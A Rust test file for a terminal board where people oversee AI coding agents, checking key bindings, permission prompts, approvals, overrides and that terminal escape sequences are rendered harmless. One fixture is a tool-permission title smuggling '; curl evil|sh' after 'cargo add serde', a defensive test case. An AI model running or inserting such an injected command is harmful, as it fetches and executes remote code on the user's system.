//! What keys do, and that what is said about them is true.

use std::collections::HashSet;

use callboard::{
    model::{
        self, Answer, Cause, HaltReason, IntentAction, Lasts, MessageId, Mode, Permission, PermissionId, Request,
        RequestId, Seen, SessionId, SessionKind, Status, Step, StepResult, Wish,
    },
    store::Change,
    tui::{Ask, Effect, Focus, Key, Message, Overlay, Pane, Scope, TABLE, able, footer, help},
};
use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers};
use insta::assert_snapshot;
use proptest::prelude::*;

use super::{
    board::{Board, Shelf, shop},
    scene::{NOW, Scene, agent},
};

fn asks(effects: Vec<Effect>) -> Vec<IntentAction> {
    effects
        .into_iter()
        .filter_map(|effect| match effect {
            Effect::Ask(Ask { action, .. }) => Some(action),
            Effect::Copy(_) | Effect::Redraw | Effect::Suspend | Effect::TakeOver(_) | Effect::Quit => None,
        })
        .collect()
}

/// What a person has before them who decides about a session without having opened its halt.
fn seen(board: &Board, session: SessionId) -> Option<Seen> {
    let halt = board.app.snapshot.inspected(session)?.detail.halt.as_ref()?.id;
    Some(Seen { halt, content: None })
}

#[test]
fn no_key_means_two_things() {
    for scope in Scope::ALL {
        let mut seen = HashSet::new();
        for row in TABLE.iter().filter(|row| row.scopes.contains(scope)) {
            for key in row.keys {
                assert!(seen.insert(key.name()), "{} in {scope:?}", key.name());
            }
        }
    }
}

#[test]
fn every_command_is_in_the_help() {
    let help: Vec<String> =
        help().iter().map(|line| line.runs.iter().map(|(_, text)| text.as_str()).collect()).collect();
    for row in TABLE {
        let found = help.iter().any(|line: &String| line.contains(row.help) && line.contains(&row.keys_text()));
        assert!(found, "{} is not in the help", row.label);
    }
}

/// Whatever the footer offers works: its action is enabled, and something comes of it.
#[test]
fn what_the_footer_offers_works() {
    let (shelf, cast) = shop();
    for session in [cast.coding, cast.cart, cast.tax, cast.shipping, cast.total, cast.manual, cast.lost, cast.testing] {
        for way in ["", "Enter", "?", "!", "w", "m", "c", "R", "O", "A", "/"] {
            let open = || {
                let mut board = shelf.board((200, 50));
                board.go(session);
                board.press(way);
                board
            };
            let board = open();
            for row in footer(&board.app.model, &board.app.snapshot, 200) {
                let mut board = open();
                board.write("note");
                assert_eq!(able(row.command, &board.app.model, &board.app.snapshot), Ok(()), "{}", row.label);
                let before = format!("{:?}{}", board.app.model.focus, board.text());
                let effects = board.app.take(Message::Terminal(Event::Key(row.keys[0].event())));
                let after = format!("{:?}{}", board.app.model.focus, board.text());
                assert!(!effects.is_empty() || before != after, "{way:?}: {} does nothing\n{before}", row.label);
            }
        }
    }
}

#[test]
fn the_footer_fits_and_keeps_help_and_quit() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.tax);
    for columns in 0..200 {
        let rows = footer(&board.app.model, &board.app.snapshot, columns);
        let wide: usize = rows.iter().map(|row| row.keys[0].name().chars().count() + row.label.len() + 3).sum();
        assert!(wide <= columns, "{columns}: {wide}");
        let labels: Vec<&str> = rows.iter().map(|row| row.label).collect();
        if columns >= 20 {
            assert!(labels.ends_with(&["help", "quit"]), "{columns}: {labels:?}");
        }
    }
}

#[test]
fn what_an_agent_asks_for_is_approved_or_refused() {
    let shelf = Shelf::new();
    let mut scene = shelf.scene();
    let cart = scene.session(SessionKind::ComponentCoding, "Cart", None, Mode::Agentic);
    let orders = scene.session(SessionKind::Integration, "Orders", None, Mode::Auto);
    let seq = scene.begin(orders, Step::FixIntegrationTestFailures, agent("Mend it."));
    let wish = Wish::Reactivate {
        session: cart,
        component: "Cart".into(),
        context: "It weighs\n\u{1b}[31mnothing.".into(),
        redesign: false,
    };
    let id = RequestId::from_u128(7);
    let request = Request { id, session_id: orders, seq, wish, at: NOW, ruling: None };
    scene.write(vec![Change::Request(Box::new(request))]);
    scene.finish(orders, StepResult::ok(), Some("waiting"));
    let mut board = shelf.board((100, 24));
    board.go(cart);
    board.press("]");
    assert_eq!(board.selected(), Some(orders), "it needs a person");
    insta::assert_snapshot!("request", board.text());
    let rule = |granted, note: Option<&str>| IntentAction::Rule { request: id, granted, note: note.map(str::to_owned) };
    board.press("A");
    insta::assert_snapshot!("request_approved", board.text());
    assert_eq!(asks(board.press("Ctrl-S")), [rule(true, None)]);
    board.press("x");
    board.write("Not now.");
    assert_eq!(asks(board.press("Ctrl-S")), [rule(false, Some("Not now."))]);
    assert!(board.app.model.overlays.is_empty());
    board.press("!");
    insta::assert_snapshot!("request_inbox", board.text());
}

#[test]
fn what_is_asked() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.manual);
    assert_eq!(asks(board.press("a")), [IntentAction::Advance]);
    assert_eq!(asks(board.press("m j Enter")), [IntentAction::SetMode { mode: Mode::Auto }]);
    board.go(cast.tax);
    assert_eq!(asks(board.press("r")), [IntentAction::Retry]);
    let tax = seen(&board, cast.tax);
    assert!(tax.is_some());
    assert_eq!(asks(board.press("A Ctrl-S")), [IntentAction::Approve { note: None, seen: tax.clone() }]);
    assert_eq!(asks(board.press("c n")), []);
    assert_eq!(asks(board.press("c y")), [IntentAction::Cancel]);
    board.press("O");
    board.write("It is in dispute.\nGo on.");
    assert_eq!(
        asks(board.press("Alt-Enter")),
        [IntentAction::Override { note: "It is in dispute.\nGo on.".into(), seen: tax }]
    );
    board.go(cast.cart);
    board.press("R");
    board.write("Mind the empty cart; q ? c are letters here.");
    let context = "Mind the empty cart; q ? c are letters here.".into();
    assert_eq!(asks(board.press("Ctrl-S")), [IntentAction::Reactivate { context, requester: None, redesign: false }]);
    assert!(board.app.model.overlays.is_empty());
}

#[test]
fn an_agent_is_told_something_or_interrupted() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((140, 40));
    board.go(cast.discount);
    board.press("i");
    assert!(board.text().contains("Message to Discount"), "{}", board.text());
    assert_eq!(asks(board.press("Ctrl-S")), [], "an empty one is none");
    assert!(board.text().contains("message: write something"), "{}", board.text());
    let long = "x".repeat(16 * 1024 + 1);
    board.app.take(Message::Terminal(Event::Paste(long)));
    assert_eq!(asks(board.press("Ctrl-S")), [], "what is too long stays");
    assert!(board.notice().contains("16385 bytes, at most 16384"), "{}", board.notice());
    board.press("Esc y i");
    board.write("Mind the tax.");
    assert_eq!(asks(board.press("Ctrl-S")), [IntentAction::Say { text: "Mind the tax.".into() }]);
    assert_eq!(asks(board.press("I")), [IntentAction::Interrupt]);
    // It is seen until the agent has taken it in, whatever is in it.
    let id = MessageId::from_u128(8);
    let message = model::Message {
        id,
        session_id: cast.discount,
        user: "ada@example.com".into(),
        text: "Mind\u{1b}[2J the tax.\nAnd more.".into(),
        at: NOW,
        seq: None,
        delivered_at: None,
        seen_at: None,
    };
    shelf.scene().write(vec![Change::Message(message)]);
    let mut board = shelf.board((140, 40));
    board.go(cast.discount);
    assert!(board.text().contains("✉ for its agent's next prompt: Mind the tax."), "{}", board.text());
    shelf.scene().write(vec![Change::Delivered { session: cast.discount, message: id, seq: 2, at: NOW }]);
    let mut board = shelf.board((140, 40));
    board.go(cast.discount);
    assert!(board.text().contains("✉ told its agent, not taken in yet: Mind the tax."), "{}", board.text());
    shelf.scene().write(vec![Change::Seen { session: cast.discount, message: id, at: NOW }]);
    let mut board = shelf.board((140, 40));
    board.go(cast.discount);
    assert!(!board.text().contains('✉'), "{}", board.text());
    board.go(cast.cart);
    assert_eq!(asks(board.press("i I")), []);
    assert!(board.text().contains("interrupt: none of its steps is running"), "{}", board.text());
}

#[test]
fn what_an_agent_asks_is_answered() {
    let (shelf, cast) = shop();
    let id = PermissionId::from_u128(7);
    let (tool, title) = ("Bash".into(), "cargo add serde\u{1b}]; curl evil|sh; #\u{7}".into());
    let seq = 2;
    let lines = (1..=60).map(|n| format!("+line {n}\u{1b}[31m\n"));
    let question = Permission {
        id,
        session_id: cast.discount,
        seq,
        tool,
        title,
        detail: format!("cargo add serde\u{1b}]; curl evil|sh; #\u{7}\n-old\u{202e}\n{}", lines.collect::<String>()),
        subject: String::new(),
        files: false,
        asked_at: NOW,
        until: NOW + 1,
    };
    shelf.scene().write(vec![Change::Question(question.clone())]);
    let mut board = shelf.board((80, 24));
    board.go(cast.discount);
    assert!(board.text().contains("ITS AGENT ASKS") && board.text().contains("serde␛]; curl"), "{}", board.text());
    let permit = |allow, lasts| IntentAction::Permit { id, allow, lasts };
    board.press("p");
    assert_snapshot!("permission", board.text());
    board.press("J J J J J J J J J J");
    assert_snapshot!("permission_scrolled", board.text());
    assert_eq!(asks(board.press("Enter")), [permit(true, Lasts::Once)]);
    assert_eq!(asks(board.press("p j Enter")), [permit(true, Lasts::Session)]);
    assert_eq!(asks(board.press("p j j j j j Enter")), [permit(false, Lasts::Always)]);
    assert_eq!(asks(board.press("p k j j j k Enter")), [permit(true, Lasts::Always)]);
    assert_eq!(asks(board.press("p j Esc")), []);
    board.press("p j");
    assert_snapshot!("permit", board.pictures());
    // A rule for a file is about all that ever becomes of it.
    let (other, cast) = shop();
    other.scene().write(vec![Change::Question(Permission { files: true, ..question })]);
    let mut file = other.board((80, 24));
    file.go(cast.discount);
    file.press("p");
    for words in ["allow any change to this file from now on", "deny any change to this file from now on"] {
        assert!(file.text().contains(words), "{}", file.text());
    }
    board.press("Esc !");
    assert!(board.text().contains("asks") && board.text().contains("serde␛];"), "{}", board.text());
}

#[test]
fn what_is_refused_says_why() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    for (session, keys, why) in [
        (cast.cart, "a", "advance: it is complete; R reactivates it"),
        (cast.shipping, "a", "advance: fix_test_failures is running"),
        (cast.total, "a", "advance: it goes on by itself, its mode is agentic"),
        (cast.tax, "a", "advance: it is halted: A approves, O overrides, r tries again"),
        (cast.shipping, "r", "retry: its step is running"),
        (cast.cart, "r", "retry: it is complete; R reactivates it"),
        (cast.shipping, "R", "reactivate: it is still active; reactivate is for sessions that have ended"),
        (cast.cart, "c", "cancel: it is complete; R reactivates it"),
        (cast.cart, "p", "answer: its agent asks nothing"),
        (cast.cart, "m", "mode: it is complete; R reactivates it"),
        (cast.shipping, "O", "override: it is not halted, there is nothing to decide"),
        (cast.cart, "Space", "fold: it has no children"),
        (cast.total, "y", "copy branch: it has no branch yet; Y copies its id"),
        (cast.shipping, "x", "refuse: its agent asks for nothing"),
        (cast.tax, "x", "refuse: it is halted: A approves, O overrides, r tries again"),
        (cast.cart, "X", "X does nothing here; ? lists the keys"),
        (cast.tax, "O Ctrl-S", "override: a note is required, it goes on the record"),
    ] {
        board.go(session);
        let effects = board.press(keys);
        assert_eq!((effects, board.notice()), (Vec::new(), why.to_owned()), "{keys}");
        board.press("Esc");
        assert!(board.app.model.overlays.is_empty());
    }
}

#[test]
fn the_same_is_not_asked_twice_until_it_is_answered() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.manual);
    assert_eq!(asks(board.press("a a a")), [IntentAction::Advance]);
    assert_eq!(board.notice(), "advance Invoice: asked already, the engine has not answered yet");
    board.app.take(Message::Asked { ticket: 1 });
    assert_eq!(board.notice(), "advance Invoice: asked");
    board.app.take(Message::Answered { ticket: 1, answer: Answer::Refused { why: "its step\nis running".into() } });
    assert_eq!(board.notice(), "advance Invoice was refused: its step is running");
    assert_eq!(asks(board.press("a")), [IntentAction::Advance]);
    board.app.take(Message::Answered { ticket: 2, answer: Answer::Done });
    assert_eq!(board.notice(), "advance Invoice: done");
    board.press("a");
    board.app.take(Message::NotAsked { ticket: 3, why: "the disk is full".into() });
    assert_eq!(board.notice(), "advance Invoice: not recorded: the disk is full");
}

#[test]
fn what_is_written_is_not_lost_without_a_question() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.tax);
    board.press("O Esc");
    assert!(board.app.model.overlays.is_empty());
    board.press("O");
    board.write("Long thoughts");
    board.press("Esc");
    assert!(board.text().contains("Leave without sending?"));
    board.press("n");
    assert!(board.text().contains("Long thoughts"));
    board.press("Esc y");
    assert!(board.app.model.overlays.is_empty());
    // Ctrl-C is a way out of the board, not out of a text.
    board.press("O");
    board.write("Long thoughts");
    assert_eq!(board.press("Ctrl-C"), []);
    assert!(board.text().contains("Leave without sending?"));
    assert_eq!(board.press("Ctrl-C"), [Effect::Quit]);
}

#[test]
fn moving_and_folding() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    assert_eq!(board.selected(), Some(cast.manual));
    board.press("j");
    assert_eq!(board.selected(), Some(cast.coding));
    board.press("j j");
    assert_eq!(board.selected(), Some(cast.discount));
    board.press("h");
    assert_eq!(board.selected(), Some(cast.coding));
    board.press("h j");
    assert_eq!(board.selected(), Some(cast.testing), "its children are folded away");
    board.press("k Enter j");
    assert_eq!(board.selected(), Some(cast.cart));
    board.press("G");
    assert_eq!(board.selected(), Some(cast.lost));
    board.press("g");
    assert_eq!(board.selected(), Some(cast.manual));
    board.press("j Space");
    assert!(!board.text().contains("    ● Shipping"), "{}", board.text());
    board.press("]");
    assert_eq!(board.selected(), Some(cast.tax), "what needs a person is found in what is folded away");
    board.press("] ]");
    assert_eq!(board.selected(), Some(cast.manual));
    board.press("[");
    assert_eq!(board.selected(), Some(cast.lost));
}

#[test]
fn panes_and_where_keys_go() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.shipping);
    board.press("1 Tab");
    assert_eq!(board.app.model.pane, Pane::Live);
    board.press("1 d");
    assert_eq!(board.app.model.pane, Pane::Diff);
    board.press("Tab Tab");
    assert_eq!(board.app.model.pane, Pane::Prompt);
    board.press("Enter");
    assert_eq!(board.app.model.focus, Focus::Pane);
    let top = board.text();
    board.press("j j");
    assert_ne!(board.text(), top);
    assert_eq!(board.selected(), Some(cast.shipping));
    board.press("g");
    assert_eq!(board.text(), top);
    board.press("Esc");
    assert_eq!(board.app.model.focus, Focus::Tree);
    // From the tree, too.
    board.press("Ctrl-D");
    assert_ne!(board.text(), top);
}

#[test]
fn the_inbox_leads_to_what_waits() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.cart);
    board.press("!");
    assert!(matches!(board.app.model.overlays.last(), Some(Overlay::Inbox { chosen: Some(_) })));
    board.press("j Enter");
    assert_eq!(board.selected(), Some(cast.tax));
    // What waits there is a decision: what it needs is on top.
    assert!(matches!(board.app.model.overlays[..], [Overlay::Halt { session, .. }] if session == cast.tax));
    board.press("Esc ! k Enter");
    assert_ne!(board.selected(), Some(cast.tax));
    assert!(board.app.model.overlays.is_empty(), "nothing is to be decided there");
}

#[test]
fn a_filter_shows_what_fits_and_what_is_above_it() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.press("/");
    board.write("TAx");
    assert_eq!(board.selected(), Some(cast.tax));
    assert!(board.text().contains("1 of 11") && board.text().contains("Orders") && !board.text().contains("Invoice "));
    board.press("Enter");
    assert_eq!(asks(board.press("r")), [IntentAction::Retry]);
    board.press("/");
    board.write("zzz");
    assert!(board.text().contains("No session has this text."));
    board.press("Esc");
    assert!(board.text().contains("Invoice"));
    // Jumping ends a filter that hides what is jumped to.
    board.press("/");
    board.write("cart");
    board.press("Enter ]");
    assert_eq!(board.app.model.filter, "");
}

#[test]
fn copies_and_ways_out() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.shipping);
    assert_eq!(board.press("y"), [Effect::Copy("callboard/component_coding/shipping".into())]);
    assert_eq!(board.press("Y"), [Effect::Copy(cast.shipping.to_string())]);
    assert_eq!(board.press("q"), [Effect::Quit]);
    assert_eq!(board.press("Ctrl-C"), [Effect::Quit]);
    assert_eq!(board.press("Ctrl-Z"), [Effect::Suspend]);
    assert_eq!(board.press("Ctrl-L"), [Effect::Redraw]);
    // What is on top is closed by q; the board is not left by it.
    assert_eq!(board.press("? q"), []);
    assert_eq!(board.press("? Ctrl-C"), [Effect::Quit]);
}

#[test]
fn only_a_conversation_that_stands_still_is_taken_over() {
    let shelf = Shelf::new();
    let mut scene = shelf.scene();
    let talked = |scene: &mut Scene, name: &str, mode: Mode| {
        let session = scene.session(SessionKind::ComponentCoding, name, None, mode);
        scene.prepare(session, "generate_implementation");
        scene.write(vec![Change::Conversation { session, id: "c-1".into() }]);
        session
    };
    let still = talked(&mut scene, "Still", Mode::Manual);
    let moving = talked(&mut scene, "Moving", Mode::Auto);
    let halted = talked(&mut scene, "Halted", Mode::Auto);
    let running = talked(&mut scene, "Running", Mode::Manual);
    scene.begin(running, Step::GenerateImplementation, agent("Write it."));
    scene.begin(halted, Step::GenerateImplementation, agent("Write it."));
    scene.finish(halted, StepResult::error(Cause::AgentUnavailable, "gone"), Some("halt"));
    scene.halt(halted, HaltReason::AgentUnavailable, "gone");
    let silent = scene.session(SessionKind::ComponentCoding, "Silent", None, Mode::Manual);
    let mut board = shelf.board((120, 40));
    for (session, expected) in [
        (still, Ok(())),
        (halted, Ok(())),
        (moving, Err("take over: its next step begins by itself, its mode is auto; m puts it to manual")),
        (running, Err("take over: generate_implementation is running")),
        (silent, Err("take over: its agent has no conversation yet")),
    ] {
        board.go(session);
        let effects = board.press("t");
        match expected {
            Ok(()) => assert_eq!(effects, [Effect::TakeOver(session)]),
            Err(why) => assert_eq!((effects, board.notice()), (Vec::new(), why.to_owned())),
        }
    }
    board.app.take(Message::TakenOver(Err("gone\x1b[2J\nfor good".into())));
    assert_eq!(board.notice(), "take over: gone for good");
}

#[test]
fn pasted_text_is_text() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    let paste = |board: &mut Board, text: &str| board.app.take(Message::Terminal(Event::Paste(text.into())));
    assert_eq!(paste(&mut board, "qqq c y"), []);
    assert_eq!(board.notice(), "there is nothing here to paste into");
    board.go(cast.tax);
    board.press("O");
    paste(&mut board, "one\r\ntwo\rthree\u{1b}[31m!");
    let seen = seen(&board, cast.tax);
    assert_eq!(asks(board.press("Ctrl-S")), [IntentAction::Override { note: "one\ntwo\nthree!".into(), seen }]);
}

#[test]
fn a_cancel_says_what_ends() {
    let (shelf, cast) = shop();
    let mut board = shelf.board((80, 24));
    board.go(cast.coding);
    board.press("c");
    assert!(board.text().contains("It and its 4 active children end"), "{}", board.text());
    let active = board.app.snapshot.tree.nodes.iter().filter(|node| node.row.status == Status::Active).count();
    assert_eq!(active, 6);
}

fn any_event() -> impl Strategy<Value = Event> {
    let bound =
        prop::sample::select(TABLE.iter().flat_map(|row| row.keys).copied().map(Key::event).collect::<Vec<KeyEvent>>());
    let codes = prop_oneof![
        any::<char>().prop_map(KeyCode::Char),
        (0u8..14).prop_map(KeyCode::F),
        Just(KeyCode::Backspace),
        Just(KeyCode::Delete),
        Just(KeyCode::Enter),
        Just(KeyCode::Esc),
    ];
    let wild =
        (codes, any::<u8>()).prop_map(|(code, bits)| KeyEvent::new(code, KeyModifiers::from_bits_truncate(bits)));
    prop_oneof![
        8 => bound.prop_map(Event::Key),
        3 => wild.prop_map(Event::Key),
        1 => "\\PC{0,40}".prop_map(Event::Paste),
        1 => (1u16..130, 1u16..50).prop_map(|(width, height)| Event::Resize(width, height)),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 24, ..ProptestConfig::default() })]

    /// Any keys, pastes and sizes: nothing panics, something is always selected, what is on top is bounded.
    #[test]
    fn nothing_panics(events in prop::collection::vec(any_event(), 1..120)) {
        let (shelf, _) = shop();
        let mut board = shelf.board((80, 24));
        for event in events {
            board.app.take(Message::Terminal(event));
            board.text();
            let model = &board.app.model;
            prop_assert!(model.selected.is_some() || !model.filter.is_empty());
            prop_assert!(model.overlays.len() <= 3);
        }
    }
}
